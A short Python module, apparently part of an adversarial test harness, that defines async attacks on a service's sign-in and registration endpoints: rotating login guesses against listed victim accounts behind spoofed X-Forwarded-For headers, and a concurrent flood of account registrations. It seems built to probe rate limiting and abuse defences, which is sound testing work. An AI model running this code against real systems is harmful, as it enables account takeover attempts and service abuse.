"""Attacks on sign-in and registration, without an account."""

from __future__ import annotations

import asyncio
import itertools
import secrets

from attack.hostile.villain import Villain

_GUESSES_EACH_SECOND = 10
_REGISTRATIONS_AT_ONCE = 8


async def guesses(villain: Villain) -> None:
    """Guesses the passwords of the honest users, under forged addresses."""
    for number, victim in enumerate(itertools.cycle(villain.target.victims)):
        forged = {"X-Forwarded-For": f"203.0.113.{number % 250}", "Forwarded": f"for=203.0.113.{number % 250}"}
        body = {"email": victim, "password": secrets.token_hex(8)}
        await villain.ask("POST", "/v1/auth/login", json=body, headers=forged)
        await asyncio.sleep(1 / _GUESSES_EACH_SECOND)


async def registrations(villain: Villain) -> None:
    """Registers accounts, eight requests at once."""

    async def register() -> None:
        while True:
            body = {"email": f"{secrets.token_hex(8)}@example.net", "password": secrets.token_hex(8)}
            await villain.ask("POST", "/v1/auth/register", json=body)
            await asyncio.sleep(0.2)

    async with asyncio.TaskGroup() as group:
        for _ in range(_REGISTRATIONS_AT_ONCE):
            group.create_task(register())
